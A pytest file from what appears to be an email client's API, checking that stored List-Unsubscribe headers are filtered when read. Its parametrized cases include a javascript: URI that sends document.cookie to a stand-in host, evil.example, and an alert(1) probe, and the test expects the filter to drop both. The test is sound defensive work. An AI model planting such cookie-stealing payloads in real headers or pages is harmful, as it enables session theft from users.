"""What the API shows of a stored message, for rows written before today's parser."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime

import pytest

from postwise.mail.models import Message
from postwise.mail.reading import message_out


def _stored(list_unsubscribe: str | None) -> Message:
    # A row as an older parser stored it: never flushed, so no database is needed.
    return Message(
        id=1,
        thread_id=None,
        user_id=uuid.uuid4(),
        account_id=uuid.uuid4(),
        folder_id=uuid.uuid4(),
        uidvalidity=1,
        uid=1,
        message_id="m@example.com",
        subject="News",
        from_name="",
        from_address="news@example.com",
        to=[],
        cc=[],
        bcc=[],
        reply_to=[],
        received_at=datetime(2024, 5, 1, tzinfo=UTC),
        is_read=False,
        is_starred=False,
        is_answered=False,
        is_draft=False,
        snippet="",
        body_text="",
        has_remote_images=False,
        has_tracking_pixel=False,
        show_images=False,
        list_unsubscribe=list_unsubscribe,
        raw_sha256="0" * 64,
    )


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("<javascript:fetch('https://evil.example/'+document.cookie)>", None),
        ("<JAVASCRIPT:alert(1)>, <https://example.com/u>", "<https://example.com/u>"),
        (
            "<mailto:leave@example.com>, <https://example.com/u>",
            "<mailto:leave@example.com>, <https://example.com/u>",
        ),
        (None, None),
    ],
)
def test_list_unsubscribe_of_stored_rows_is_filtered_when_read(
    stored: str | None, shown: str | None
) -> None:
    assert message_out(_stored(stored), []).list_unsubscribe == shown
